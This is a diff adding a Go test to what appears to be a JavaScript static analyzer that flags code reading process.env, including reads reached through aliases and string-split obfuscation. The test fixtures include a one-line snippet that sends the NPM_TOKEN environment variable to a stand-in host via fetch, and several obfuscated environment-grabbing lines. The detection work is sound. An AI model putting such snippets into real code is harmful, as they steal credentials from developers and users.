@@ -940,3 +940,28 @@ func TestDataURLImport(t *testing.T) {
 		t.Errorf("imports %+v", f.Imports)
 	}
 }
+
+// process reached through the global object is still process: its env
+// read whole, or one variable of it.
+func TestGlobalProcessEnv(t *testing.T) {
+	for src, want := range map[string]EnvRead{
+		`const e = globalThis["pro" + "cess"]["env"]; send(e)`:          {How: "alias"},
+		`const e = globalThis.process.env; send(e)`:                     {How: "alias"},
+		`const e = window["process"].env; send(e)`:                      {How: "alias"},
+		`fetch("https://x.invalid/?t=" + global.process.env.NPM_TOKEN)`: {Name: "NPM_TOKEN"},
+	} {
+		f := Analyze("a.js", []byte(src), DefaultLimits())
+		found := false
+		for _, e := range f.Env {
+			found = found || e.Name == want.Name && (want.How == "" || e.How == want.How)
+		}
+		if !found {
+			t.Errorf("%s: env reads %+v, want %+v", src, f.Env, want)
+		}
+	}
+	// a property named process on another object is not the process
+	f := Analyze("b.js", []byte(`const o = { process: { env: {} } }; send(o.process.env)`), DefaultLimits())
+	if len(f.Env) != 0 {
+		t.Errorf("o.process.env read as the environment: %+v", f.Env)
+	}
+}
